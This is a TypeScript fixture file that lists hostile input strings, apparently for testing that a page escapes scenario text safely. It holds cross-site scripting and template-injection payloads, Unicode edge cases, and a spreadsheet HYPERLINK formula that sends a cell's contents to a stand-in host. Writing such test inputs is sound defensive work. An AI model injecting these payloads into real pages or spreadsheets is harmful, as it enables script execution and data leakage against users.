// Texts that somebody may put into a scenario to make a page do what it should not.

export const hostileTexts: readonly string[] = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "javascript:alert(1)",
  "{{7*7}} $[7*7]",
  "<!-- never closed",
  "]]> & &amp; &lt;b&gt;",
  "right to left \u202e gnorw",
  "שלום and back",
  "lone \ud800 half",
  '=HYPERLINK("http://e.example/?"&A1)',
  "long ".repeat(2000).trim(),
];
